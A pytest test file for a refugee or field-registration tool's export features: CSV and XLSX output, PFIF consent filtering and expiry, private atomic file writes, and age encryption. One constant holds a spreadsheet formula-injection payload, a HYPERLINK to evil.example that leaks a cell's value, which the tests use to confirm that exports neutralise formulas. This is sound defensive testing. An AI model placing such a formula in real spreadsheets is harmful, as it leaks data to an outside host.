"""Exports of people as a coordinator receives them: the CSV and XLSX read back, the PFIF file
re-imported, the encrypted file opened with the real `age` tool, and the file written privately,
whole or not at all."""

from __future__ import annotations

import csv
import datetime as dt
import errno
import io
import shutil
import stat
import subprocess
from pathlib import Path

import openpyxl
import pyrage
import pytest

from fieldreg.core.errors import FieldregError, StoreError, ValidationError
from fieldreg.crypto import durable_file
from fieldreg.reports import pfif
from fieldreg.services import exports, retention
from fieldreg.services.session import Session
from fieldreg.services.sync_access import sync_repository
from tests.reports.people import register_people

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def build(session: Session, fmt: exports.ExportFormat, **options: object) -> exports.Export:
    return exports.build_export(session, exports.ExportRequest(format=fmt, **options))  # type: ignore[arg-type]


def csv_rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


@pytest.fixture
def hostile_person(session: Session) -> str:
    person_id = session.register(
        {"family_name": "Тест", "given_name": "Анна", "dob": "1990-05-06", "sex": "female"}
    )
    session.set_status(person_id, "waiting", location=HOSTILE)
    session.record_consent(person_id, {"consent_tracing": "yes"})
    return person_id


def test_csv_neutralises_a_formula_in_every_cell(session: Session, hostile_person: str) -> None:
    # A leading tab or carriage return never reaches the store (validation strips them); the
    # writer's own rule covers them too (tests/reports/test_cells.py).
    for start in ("+1+1", "-2", "@SUM(A1)"):
        other = session.register({"family_name": "Тест", "given_name": "Борис"})
        session.set_status(other, "waiting", location=start)
    content = build(
        session, exports.ExportFormat.CSV, columns=("id", "status_location", "given_name")
    ).content
    locations = sorted(row[1] for row in csv_rows(content)[1:])
    assert locations == sorted(["'" + HOSTILE, "'+1+1", "'-2", "'@SUM(A1)"])
    assert "Анна" in {row[2] for row in csv_rows(content)}


def test_xlsx_shows_typed_values_and_inert_text(session: Session, hostile_person: str) -> None:
    content = build(
        session,
        exports.ExportFormat.XLSX,
        columns=("id", "dob", "birth_year", "registered", "status_location"),
    ).content
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    sheet = workbook["people"]
    assert sheet.freeze_panes == "A2"
    header, row = (list(r) for r in sheet.iter_rows(values_only=True))
    assert header == ["id", "dob", "birth_year", "registered", "status_location"]
    assert row[0] == hostile_person
    assert row[1] == dt.datetime(1990, 5, 6)  # openpyxl reads an Excel date as a datetime
    assert sheet.cell(2, 2).is_date
    assert row[2] == 1990
    assert isinstance(row[3], dt.datetime)
    assert row[4] == "'" + HOSTILE
    assert sheet.cell(2, 5).data_type == "s"  # text, not a formula


def test_filters_keep_only_the_people_asked_for(session: Session) -> None:
    register_people(session, 12)
    everyone = csv_rows(build(session, exports.ExportFormat.CSV, columns=("id",)).content)[1:]
    waiting = build(
        session,
        exports.ExportFormat.CSV,
        columns=("id", "status", "needs"),
        filter=exports.PeopleFilter(statuses=frozenset({"waiting"})),
    )
    assert len(everyone) == 12
    assert waiting.people == 4
    assert {row[1] for row in csv_rows(waiting.content)[1:]} == {"waiting"}
    mobility = build(
        session,
        exports.ExportFormat.CSV,
        columns=("id", "needs"),
        filter=exports.PeopleFilter(needs=frozenset({"mobility"})),
    )
    assert mobility.people == 2  # people 0 and 8 of register_people
    later = exports.PeopleFilter(registered_from=dt.date.today() + dt.timedelta(days=1))
    assert build(session, exports.ExportFormat.CSV, filter=later).people == 0


def test_an_unknown_column_is_named(session: Session) -> None:
    with pytest.raises(ValidationError) as caught:
        build(session, exports.ExportFormat.CSV, columns=("id", "shoe_size"))
    assert caught.value.code == "export.unknown_column"
    assert caught.value.params["column"] == "shoe_size"


def test_pfif_holds_only_people_who_consented_and_reimports_to_them(session: Session) -> None:
    consented = register_people(session, 10)
    built = build(session, exports.ExportFormat.PFIF, domain="registry.example.org")
    persons = pfif.parse_document(built.content)
    by_id = {p.person_record_id.removeprefix("registry.example.org/"): p for p in persons}
    assert set(by_id) == {pid for pid, agrees in consented.items() if agrees}
    text = built.content.decode()
    for person_id, agrees in consented.items():
        view = session.person(person_id)
        if not agrees:
            assert person_id not in text
            assert str(view.fields["family_name"]) not in text
            continue
        person = by_id[person_id]
        assert person.family_name == view.fields["family_name"]
        assert person.given_name == f"{view.fields['given_name']} {view.fields['patronymic']}"
        assert person.sex == view.fields["sex"]
        assert person.date_of_birth == view.fields["dob"]
        assert person.home_city == view.fields["origin_settlement"]
        assert person.expiry_date is not None
        assert person.entry_date is not None
        assert person.expiry_date - person.entry_date == dt.timedelta(days=365)
        statuses = [n.text for n in person.notes]
        assert statuses == (["Status: waiting"] if view.fields.get("status") == "waiting" else [])


def test_pfif_turns_each_status_change_into_a_note(session: Session, hostile_person: str) -> None:
    session.set_status(hostile_person, "departed", transport="Bus 12", location="Border")
    [person] = pfif.parse_document(
        build(session, exports.ExportFormat.PFIF, domain="registry.example.org").content
    )
    assert [n.text for n in person.notes] == [
        "Status: waiting",
        "Status: departed; transport: Bus 12",
    ]
    assert person.notes[1].last_known_location == "Border"
    assert all(n.status == "believed_alive" for n in person.notes)


def test_a_pfif_domain_that_is_not_a_domain_is_refused(session: Session) -> None:
    with pytest.raises(ValidationError) as caught:
        build(session, exports.ExportFormat.PFIF, domain="not a domain/")
    assert caught.value.code == "export.bad_domain"


def test_without_a_domain_the_network_gets_a_reserved_one(session: Session) -> None:
    register_people(session, 2)
    [person] = pfif.parse_document(build(session, exports.ExportFormat.PFIF).content)
    assert person.person_record_id.split("/")[0].endswith(".fieldreg.invalid")


def test_the_file_is_private_and_no_temporary_file_remains(
    session: Session, tmp_path: Path
) -> None:
    register_people(session, 3)
    target = tmp_path / "out" / "people.csv"
    target.parent.mkdir()
    done = exports.export_people(session, exports.ExportRequest(exports.ExportFormat.CSV), target)
    assert done.people == 3
    assert stat.S_IMODE(target.stat().st_mode) == 0o600
    assert [p.name for p in target.parent.iterdir()] == ["people.csv"]


def test_a_failed_write_leaves_nothing_behind(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    folder = tmp_path / "full"
    folder.mkdir()

    def disk_full(_fd: int) -> None:
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(durable_file.os, "fsync", disk_full)
    with pytest.raises(StoreError) as caught:
        exports.write_export(folder / "people.csv", b"id\r\n")
    assert caught.value.code == "export.write_failed"
    assert list(folder.iterdir()) == []  # neither the file nor its temporary name


def test_a_passphrase_export_opens_with_that_passphrase(session: Session) -> None:
    register_people(session, 3)
    secret = "a long export passphrase"
    built = build(
        session,
        exports.ExportFormat.CSV,
        encryption=exports.Encryption(passphrase=secret),
    )
    assert built.encrypted
    assert built.content.startswith(b"age-encryption.org/v1\n-> scrypt ")
    assert len(csv_rows(pyrage.passphrase.decrypt(built.content, secret))) == 4


def test_a_short_export_passphrase_is_refused(session: Session) -> None:
    with pytest.raises(ValidationError) as caught:
        build(session, exports.ExportFormat.CSV, encryption=exports.Encryption(passphrase="short"))
    assert caught.value.code == "export.passphrase_short"


def test_a_recipient_export_opens_with_the_age_tool(session: Session, tmp_path: Path) -> None:
    if shutil.which("age") is None or shutil.which("age-keygen") is None:
        pytest.skip("the age command-line tool is not installed")
    register_people(session, 4)
    identity = tmp_path / "key.txt"
    subprocess.run(["age-keygen", "-o", str(identity)], check=True, capture_output=True)
    recipient = subprocess.run(
        ["age-keygen", "-y", str(identity)], check=True, capture_output=True, text=True
    ).stdout.strip()
    target = tmp_path / "people.xlsx.age"
    exports.export_people(
        session,
        exports.ExportRequest(
            exports.ExportFormat.XLSX, encryption=exports.Encryption(recipients=(recipient,))
        ),
        target,
    )
    opened = subprocess.run(
        ["age", "-d", "-i", str(identity), str(target)], check=True, capture_output=True
    ).stdout
    sheet = openpyxl.load_workbook(io.BytesIO(opened))["people"]
    assert sheet.max_row == 5


def test_a_bad_recipient_is_refused(session: Session) -> None:
    with pytest.raises(FieldregError) as caught:
        build(
            session,
            exports.ExportFormat.CSV,
            encryption=exports.Encryption(recipients=("age1notakey",)),
        )
    assert caught.value.code == "sync.bad_key"


def test_a_pfif_list_is_read_only_from_a_regular_file(tmp_path: Path) -> None:
    real = tmp_path / "list.xml"
    real.write_bytes(pfif.document_bytes([]))
    link = tmp_path / "link.xml"
    link.symlink_to(real)
    assert exports.read_pfif_list(real) == []
    with pytest.raises(FieldregError) as caught:
        exports.read_pfif_list(link)
    assert caught.value.code == "sync.not_a_file"


def test_a_pfif_list_over_the_size_limit_is_refused_unparsed(tmp_path: Path) -> None:
    huge = tmp_path / "huge.xml"
    with huge.open("wb") as handle:
        handle.truncate(pfif.MAX_BYTES + 10)  # sparse: no disk needed
    with pytest.raises(FieldregError) as caught:
        exports.read_pfif_list(huge)
    assert caught.value.code == "pfif.too_large"


def test_pfif_records_expire_after_the_networks_retention_period(session: Session) -> None:
    session.register({"family_name": "Коваль", "given_name": "Ірина", "consent_tracing": "yes"})
    with sync_repository(session) as repo, repo.transaction():
        retention.store_days(repo, 30)  # as a roster brings the network's setting

    [person] = pfif.parse_document(
        build(session, exports.ExportFormat.PFIF, domain="registry.example.org").content
    )

    assert person.expiry_date is not None
    assert person.entry_date is not None
    assert person.expiry_date - person.entry_date == dt.timedelta(days=30)
